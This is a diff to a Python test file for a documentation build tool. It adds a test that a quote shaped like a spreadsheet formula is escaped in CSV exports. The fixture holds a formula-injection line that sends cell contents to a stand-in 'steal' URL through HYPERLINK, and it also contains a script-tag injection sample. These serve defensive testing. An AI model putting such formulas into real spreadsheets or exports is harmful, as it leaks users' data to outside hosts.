@@ -39,6 +39,12 @@ STATEMENT = f"""# Statement {PAYLOAD}
 Quoted {PAYLOAD} with a bell \x07 and an escape \x1b.
 :::
 
+:::{{quote}} formula-quote
+:speaker: evil-person
+
+=HYPERLINK("https://example.org/steal?x="&A1,"click")
+:::
+
 ```{{raw}} html
 <script>alert(6)</script>
 ```
@@ -107,7 +113,7 @@ def test_refused_urls_and_control_characters_are_located_warnings(built):
         "statement.md:13:",
         "statement.md:15:",
         "statement.md:15:",
-        "statement.md:18:",
+        "statement.md:24:",
         "statement.md:7:",
     ]
     assert sum("[briefing.invalid-url]" in line for line in lines) == 3
@@ -162,3 +168,13 @@ def test_exports_round_trip_the_payload(built):
     with (result.outdir / "data" / "people.csv").open(encoding="utf-8-sig", newline="") as f:
         rows = list(csv.DictReader(f))
     assert rows[0]["title"] == people[0]["title"]
+
+
+def test_a_quote_that_looks_like_a_formula_stays_text_in_spreadsheets(built):
+    _, result = built
+    data = json.loads((result.outdir / "data" / "knowledge-base.json").read_text())
+    (quote,) = [e for e in data["entities"] if e["id"] == "formula-quote"]
+    assert quote["text"].startswith("=HYPERLINK(")
+    with (result.outdir / "data" / "quotes.csv").open(encoding="utf-8-sig", newline="") as f:
+        rows = {row["id"]: row for row in csv.DictReader(f)}
+    assert rows["formula-quote"]["text"] == "'" + quote["text"]
